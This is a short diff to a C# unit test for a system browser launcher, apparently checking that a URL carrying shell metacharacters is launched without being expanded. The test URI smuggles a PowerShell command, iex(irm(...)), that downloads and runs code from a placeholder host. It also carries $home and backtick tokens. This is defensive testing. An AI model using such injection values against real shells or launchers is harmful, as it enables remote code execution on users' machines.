@@ -41,7 +41,7 @@ public sealed class SystemBrowserLauncherTests
                 "BROWSER" => opener,
                 "WSL_DISTRO_NAME" => wsl ? "Ubuntu" : null,
                 _ => Environment.GetEnvironmentVariable(name),
-            });
+            }) { KernelIsWsl = () => false };
             var hostile = new Uri("https://as.example/auth/$(iex(irm('as.example/p')))?tenant=$home&x=`a`&state=abc");
 
             Assert.True((await launcher.LaunchAsync(hostile, CancellationToken.None)).Launched);
